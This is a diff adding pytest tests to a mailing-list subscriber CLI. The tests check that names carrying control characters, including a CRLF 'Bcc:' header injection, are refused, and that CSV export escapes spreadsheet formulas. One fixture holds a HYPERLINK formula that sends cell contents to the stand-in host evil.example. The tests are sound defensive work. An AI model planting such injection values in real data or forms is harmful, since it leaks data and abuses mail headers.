@@ -73,3 +73,44 @@ def test_dry_run_import_writes_nothing(project):
     result = run(project, "subscribers", "import", "in.csv", "--dry-run")
     assert "would add 1" in result.stdout
     assert json.loads(run(project, "subscribers", "list", "--json").stdout) == []
+
+
+def test_names_unfit_for_a_header_are_refused_on_add_and_set(project):
+    assert run(project, "subscribers", "add", "bo@example.com", "--name", "Bo").returncode == 0
+    for name, expected in [
+        ("Ana\r\nBcc: all@example.org", "name contains the control character U+000D at "
+                                        "position 4"),
+        ("Ana\x07", "name contains the control character U+0007"),
+        ("\x1b[2JAna", "name contains the control character U+001B"),
+        ("x" * 10_000, "name longer than 200 characters (10000)"),
+    ]:
+        added = run(project, "subscribers", "add", "ana@example.com", "--name", name)
+        changed = run(project, "subscribers", "set", "bo@example.com", "--name", name,
+                      "--topics", "economy")
+        for result, email in ((added, "ana@example.com"), (changed, "bo@example.com")):
+            assert result.returncode == 1, result.stderr
+            assert result.stderr.startswith(f"{email}: {expected}"), result.stderr
+            assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
+    listed = json.loads(run(project, "subscribers", "list", "--json").stdout)
+    assert [(p["email"], p["name"], p["topics"]) for p in listed] == [
+        ("bo@example.com", "Bo", [])]  # nothing changed
+
+
+def test_export_is_safe_in_a_spreadsheet_and_imports_back(project):
+    # A sign-up form or an import can carry such names; opened in a spreadsheet, the export
+    # must show them as text rather than evaluate them.
+    (project / "in.csv").write_text(
+        'email,name,topics\n'
+        'eve@example.com,"=HYPERLINK(""https://evil.example/""&A1,""x"")",economy\n'
+        '-ana@example.com,-Ana,\n', encoding="utf-8")
+    assert run(project, "subscribers", "import", "in.csv").returncode == 0
+    exported = run(project, "subscribers", "export").stdout
+    assert exported.splitlines() == [
+        "email,name,topics,timezone,status",
+        'eve@example.com,"\'=HYPERLINK(""https://evil.example/""&A1,""x"")",economy,,active',
+        "'-ana@example.com,'-Ana,,,active"]
+    before = run(project, "subscribers", "list", "--json").stdout
+    (project / "again.csv").write_text(exported.replace(",status", "").replace(",active", ""))
+    again = run(project, "subscribers", "import", "again.csv")
+    assert "added 0, updated 2, rejected 0" in again.stdout, again.stdout
+    assert run(project, "subscribers", "list", "--json").stdout == before
